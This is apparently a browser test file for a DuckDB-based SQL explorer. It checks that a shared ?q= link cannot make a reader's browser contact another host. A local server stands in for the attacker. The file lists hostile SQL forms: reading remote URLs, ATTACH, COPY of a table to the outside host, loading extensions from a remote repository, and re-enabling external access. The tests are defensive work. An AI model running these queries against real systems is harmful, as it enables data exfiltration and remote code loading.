/**
 * Issue #15: a shared explorer link must not make its reader's browser contact another host. The
 * site is served with no header at all (a worker's requests obey only its own response's CSP, so
 * the defence must be the application's); a logging server on another port of 127.0.0.1 plays
 * the other host, serving rows to anyone (CORS open), and every way DuckDB has to reach a URL
 * arrives as a ?q= link: zero requests reach it, the link's SQL waits in the box with a message,
 * and pressing Run shows why it is refused.
 */
import { createServer, type Server } from 'node:http';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { openBrowser } from '../support/browser.ts';
import { serveSite } from '../../src/deploy/serve.ts';
import { clientWords } from '../../src/i18n/client-words.ts';
import { EXAMPLES } from '../../src/queries/examples.ts';

const siteDir = inject('siteDir');
const words = clientWords('id');

const ATTACKER_ROWS = 'nilai,asal\n666,penyerang\n';
let other: Server;
let otherUrl = '';
const reached: string[] = [];
/** The built site on a host that sends no header. */
let siteUrl = '';
let closeSite: () => Promise<void> = async () => undefined;

beforeAll(async () => {
  const bare = await serveSite(siteDir, { policy: false });
  siteUrl = bare.url;
  closeSite = bare.close;
  other = createServer((req, res) => {
    reached.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/csv', 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' });
    res.end(ATTACKER_ROWS);
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  const address = other.address();
  otherUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
});
afterAll(async () => {
  await closeSite();
  await new Promise<void>((resolve) => other.close(() => resolve()));
});

/** Each form, with the other host's address filled in when the test runs. */
const ATTACKS: [string, (o: string) => string][] = [
  ['read_csv', (o) => `SELECT * FROM read_csv('${o}/a.csv')`],
  ['a URL as a table', (o) => `SELECT * FROM '${o}/b.csv'`],
  ['a URL as a quoted name', (o) => `SELECT * FROM "${o}/b2.csv"`],
  ['a URL after a published table', (o) => `SELECT * FROM ikm_unit, '${o}/b3.csv' LIMIT 1`],
  ['read_parquet', (o) => `SELECT * FROM read_parquet('${o}/c.parquet')`],
  ['read_json', (o) => `SELECT * FROM read_json('${o}/d.json')`],
  ['glob', (o) => `SELECT * FROM glob('${o}/*')`],
  ['ATTACH', (o) => `ATTACH '${o}/e.duckdb' AS e; SELECT * FROM e.t`],
  ['COPY … TO', (o) => `COPY (SELECT * FROM wilayah) TO '${o}/f.csv'`],
  [
    'a custom extension repository',
    (o) => `SET custom_extension_repository = '${o}/repo'; INSTALL httpfs; LOAD httpfs; SELECT * FROM read_csv('${o}/g.csv')`,
  ],
  ['INSTALL from a URL', (o) => `INSTALL httpfs FROM '${o}/repo'; LOAD httpfs`],
  ['LOAD httpfs', () => 'LOAD httpfs'],
  ['LOAD from a URL', (o) => `LOAD '${o}/x.duckdb_extension'`],
  ['external access turned back on', (o) => `SET enable_external_access = true; SELECT * FROM read_csv('${o}/h.csv')`],
  ['allowed paths widened', (o) => `SET allowed_paths = ['${o}/i.csv']; SELECT * FROM read_csv('${o}/i.csv')`],
];

async function settled(page: Page): Promise<string> {
  await page.waitForSelector('#result[data-state=done], #result[data-state=error], #result[data-state=held]', {
    state: 'attached',
    timeout: 60_000,
  });
  return (await page.getAttribute('#result', 'data-state')) ?? '';
}

describe('a shared link cannot reach another host', () => {
  let page: Page;
  let close: () => Promise<void> = async () => undefined;
  const requests: string[] = [];
  beforeAll(async () => {
    const browser = await openBrowser();
    close = browser.close;
    browser.context.on('request', (r) => requests.push(r.url()));
    page = await browser.context.newPage();
  });
  afterAll(() => close());

  // The first link is opened as a reader opens it; each next one as the page's own history moves
  // to it (popstate reads the URL as a load does: fromUrl), in the same page, so that one engine
  // meets every attack, each after the others (and a load costs an engine's start, seconds).
  let opened = false;
  test.each(ATTACKS)('%s: the link waits, said so; Run is refused, said why; nothing reaches the other host', async (_name, attack) => {
    const sql = attack(otherUrl);
    reached.length = 0;
    requests.length = 0;
    if (!opened) await page.goto(`${siteUrl}/jelajah/?q=${encodeURIComponent(sql)}`);
    else
      await page.evaluate((q) => {
        history.pushState(null, '', `?q=${encodeURIComponent(q)}`);
        dispatchEvent(new PopStateEvent('popstate'));
      }, sql);
    opened = true;
    expect(await settled(page)).toBe('held');
    expect(await page.inputValue('#sql')).toBe(sql);
    expect(await page.textContent('#status')).toBe(words.linkHeld);

    await page.click('#run');
    expect(await settled(page)).toBe('error');
    const message = (await page.textContent('#query-error')) ?? '';
    expect(message).toContain(words.onlyPublished);
    expect(await page.textContent('#result')).not.toContain('penyerang');

    expect(reached).toEqual([]);
    expect(requests.filter((u) => !u.startsWith(siteUrl) && !u.startsWith('blob:') && !u.startsWith('data:'))).toEqual([]);
  });

  test('a link that only reads the published tables still answers as the page opens, as does each example’s', async () => {
    const response = await page.goto(`${siteUrl}/jelajah/?q=${encodeURIComponent('SELECT count(*) AS n FROM wilayah')}`);
    expect(response?.headers()['content-security-policy']).toBeUndefined(); // the bare host, as meant
    expect(await settled(page)).toBe('done');
    for (const example of EXAMPLES) {
      // Back and forward through links the page opened (popstate reads the URL as a load does).
      await page.evaluate((q) => {
        history.pushState(null, '', `?q=${encodeURIComponent(q)}`);
        dispatchEvent(new PopStateEvent('popstate'));
      }, example.sql);
      expect(await settled(page), example.slug).toBe('done');
    }
  });
});
